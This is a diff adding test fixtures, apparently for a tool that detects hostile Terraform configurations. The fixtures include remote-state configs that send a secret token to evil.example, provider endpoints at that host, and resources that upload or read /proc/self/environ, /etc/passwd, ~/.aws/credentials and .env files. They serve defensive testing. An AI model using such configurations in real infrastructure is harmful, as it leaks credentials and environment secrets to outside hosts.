@@ -1,6 +1,19 @@
 import { terraform } from "./support";
 import { backend, bare, output, type TerraformCase } from "./terraform-cases";
 
+/** Remote states of which Terraform computes what says where they are; and the setting that it computes. */
+const COMPUTED_STATES: readonly (readonly [what: string, body: object, setting: string])[] = [
+  ["a config that is an expression", { backend: "http", config: '${{address="http://evil.example/?t=${nonsensitive(var.t)}"}}' }, "config"],
+  ["a config that a local gives", { backend: "kubernetes", config: "${local.c}" }, "config"],
+  ["a config that a directive gives", { backend: "http", config: "%{if true}x%{endif}" }, "config"],
+  ["a list of configs", { backend: "http", config: ["${local.c}"] }, "config"],
+  ["a host within another text", { backend: "s3", config: { endpoints: { s3: 'https://${"evil.example"}' } } }, "config"],
+  ["a key", { backend: "pg", config: { '${"conn_str"}': "host=evil.example" } }, "config"],
+  ["a key further down", { backend: "s3", config: { endpoints: { "%{if true}s3%{endif}": "evil.example" } } }, "config"],
+  ["what a request carries", { backend: "s3", config: { bucket: "b", key: "${var.api_token}" } }, "config"],
+  ["the backend", { backend: '${"http"}', config: { lock: true } }, "backend"],
+];
+
 /** Rules against Terraform that runs programs, or speaks with strangers. */
 export const HOSTILE_CASES: readonly TerraformCase[] = [
   [
@@ -137,6 +150,61 @@ export const HOSTILE_CASES: readonly TerraformCase[] = [
       "provider.vault: provider.vault speaks with evil.example",
     ],
   ],
+  ...COMPUTED_STATES.flatMap(([what, body, setting]): TerraformCase[] => {
+    const stack = terraform({ data: { terraform_remote_state: { x: body } } });
+    const address = "data.terraform_remote_state.x";
+    return [
+      [
+        "foreignHttp",
+        `a remote state, computed: ${what}`,
+        stack,
+        [`${address}: ${address} keeps or reads a state at a host that is known at plan time only`],
+      ],
+      [
+        "externalProgram",
+        `a remote state, computed: ${what}`,
+        stack,
+        [`${address}.${setting}: ${address} may run a program that ${setting} names`],
+      ],
+    ];
+  }),
+  [
+    "foreignHttp",
+    "services of AWS at hosts that are not known",
+    terraform({
+      provider: {
+        aws: [{ endpoints: [{ sts: "${local.h}" }] }, { alias: "b", dynamic: { endpoints: { content: { sts: "${local.h}" } } } }],
+      },
+    }),
+    Array.from({ length: 2 }, () => "provider.aws: provider.aws speaks with a host that is known at plan time only"),
+  ],
+  [
+    "foreignHttp",
+    "services at a host without a scheme, and by a key that is computed",
+    terraform({ provider: { aws: { endpoints: { sts: "evil.example" } }, acme: { x: { "${local.k}": "y" } } } }),
+    [
+      "provider.acme: provider.acme speaks with a host that is known at plan time only",
+      "provider.aws: provider.aws speaks with evil.example",
+    ],
+  ],
+  [
+    "foreignHttp",
+    "states of other stacks, as they are written for each backend",
+    terraform({
+      data: {
+        terraform_remote_state: {
+          cloud: { backend: "remote", config: { organization: "example", workspaces: { name: "cloud" } } },
+          local: { backend: "local", config: { path: "../../../terraform.other.tfstate" }, workspace: "${terraform.workspace}" },
+          r2: {
+            backend: "s3",
+            config: { bucket: "b", endpoints: { s3: "https://x.r2.cloudflarestorage.com" }, key: "r2.tfstate", use_path_style: true },
+            workspace: "${terraform.workspace}",
+          },
+        },
+      },
+    }),
+    [],
+  ],
   ["foreignHttp", "R2", bare(backend({ s3: { endpoints: { s3: "https://x.r2.cloudflarestorage.com" } } })), []],
   ["foreignHttp", "HCP Terraform", bare({ terraform: { cloud: { hostname: "app.terraform.io", workspaces: { name: "https" } } } }), []],
 
@@ -246,6 +314,108 @@ export const HOSTILE_CASES: readonly TerraformCase[] = [
       "cloudflare_workers_script.a: cloudflare_workers_script.a uploads what directory names",
       "cloudflare_workers_script.w: cloudflare_workers_script.w uploads what content_file names",
     ],
+  ],
+  ...(
+    [
+      ["cloudflare_worker_version", { modules: '${[{content_file="/proc/self/environ",name="a.js"}]}' }, "modules"],
+      ["cloudflare_worker_version", { modules: "${local.m}" }, "modules"],
+      ["cloudflare_worker_version", { modules: [{ name: "x", content_base64: "eA==" }, "${local.m}"] }, "modules"],
+      ["cloudflare_worker_version", { modules: [{ name: "x", '${"content_file"}': "/root/x" }] }, "modules"],
+      ["cloudflare_workers_script", { assets: '${{directory="/root"}}' }, "assets"],
+      ["cloudflare_workers_script", { assets: { "%{if true}directory%{endif}": "/root" } }, "assets"],
+      ["cloudflare_worker_version", { assets: [[{ directory: "${var.d}" }]] }, "directory"],
+    ] as const
+  ).map(([type, body, name]): TerraformCase => [
+    "readsLocalFiles",
+    `what a Worker is made of, by an expression: ${JSON.stringify(body)}`,
+    terraform({ resource: { [type]: { w: body } } }),
+    [`${type}.w: ${type}.w uploads what ${name} names`],
+  ]),
+  ...[{ m: [{ content_file: "/root/x" }] }, { m: '${[{ content_file = "/root/x" }]}' }, { m: { "//": { content_file: "/root/x" } } }].map(
+    (locals): TerraformCase => [
+      "readsLocalFiles",
+      `a local that a Worker may be made of: ${JSON.stringify(locals)}`,
+      terraform({ locals }),
+      ["locals: locals holds a content_file: what is uploaded may be any file"],
+    ],
+  ),
+  [
+    "readsLocalFiles",
+    "Workers without files",
+    terraform({
+      locals: { content_file: "x", n: "a content_file" },
+      resource: {
+        cloudflare_workers_script: { w: { content: "${local.code}", assets: { jwt: "${var.jwt}", config: { headers: "x" } } } },
+        cloudflare_worker_version: { v: { modules: [{ name: "${local.n}", content_base64: "eA==" }], assets: null } },
+        cloudflare_healthcheck: { h: { path: "/etc" } },
+      },
+    }),
+    [],
+  ],
+  ...(
+    [
+      ["aws_s3_object", { source: "/proc/self/environ" }, "source"],
+      ["aws_s3_object", { source: "${local.f}" }, "source"],
+      ["google_storage_bucket_object", { source: "file:///etc/passwd" }, "source"],
+      ["aws_lambda_function", { filename: "x.zip" }, "filename"],
+      ["acme_upload", { block: [{ key_file: "../id" }] }, "key_file"],
+      ["acme_upload", { env_files: [".env"] }, "env_files"],
+      ["acme_upload", { path: "~/.aws/credentials" }, "path"],
+      ["acme_upload", { path: "/proc/self/environ" }, "path"],
+    ] as const
+  ).map(([type, body, name]): TerraformCase => [
+    "readsLocalFiles",
+    `a resource that is given a file: ${type} ${JSON.stringify(body)}`,
+    terraform({ resource: { [type]: { x: body } } }),
+    [`${type}.x: ${type}.x uses the file that ${name} names`],
+  ]),
+  [
+    "readsLocalFiles",
+    "a data source that reads a file",
+    terraform({ data: { local_sensitive_file: { x: { filename: "/proc/self/environ" } } } }),
+    ["data.local_sensitive_file.x: data.local_sensitive_file.x uses the file that filename names"],
+  ],
+  [
+    "readsLocalFiles",
+    "attributes with such names that are given no file",
+    terraform({
+      resource: {
+        aws_s3_object: { u: { source: "https://example.com/x", source_hash: "x" }, a: { source: "arn:aws:s3:::b/k" } },
+        aws_iam_role: { r: { path: "/service/" } },
+        vault_generic_secret: { s: { path: "secret/ci" }, t: { path: "${var.mount}/x" } },
+        acme_rule: { x: { match: { source: "10.0.0.0/8" }, is_file: true, log_file: "" } },
+        terraform_data: { d: { input: { key_file: "x" } } },
+      },
+    }),
+    [],
+  ],
+  ...[
+    { backend: "local", config: { path: "/home/runner/terraform.tfstate" } },
+    { backend: "local", config: { path: "../../../terraform.prod.tfstate", workspace_dir: "/home" } },
+    { backend: "local", config: {} },
+    { backend: "local" },
+    { backend: "local", config: { path: "../../../terraform.${var.s}.tfstate" } },
+    { backend: "local", config: "${local.c}" },
+    { backend: '${"local"}', config: { path: "x" } },
+  ].map((state): TerraformCase => [
+    "readsLocalFiles",
+    `a state that is a file of no stack: ${JSON.stringify(state)}`,
+    bare({ ...backend({ local: { path: "../../../terraform.prod.tfstate" } }), data: { terraform_remote_state: { x: state } } }),
+    ["data.terraform_remote_state.x: data.terraform_remote_state.x reads a file that is the state of no stack here"],
+  ]),
+  [
+    "readsLocalFiles",
+    "the state of a stack that is here, and states that are no files",
+    bare({
+      ...backend({ local: { path: "../../../terraform.prod.tfstate" } }),
+      data: {
+        terraform_remote_state: {
+          own: { backend: "local", config: { path: "../../../terraform.prod.tfstate" }, workspace: "${terraform.workspace}" },
+          s3: { backend: "s3", config: { key: "path" } },
+        },
+      },
+    }),
+    [],
   ],
   [
     "readsLocalFiles",
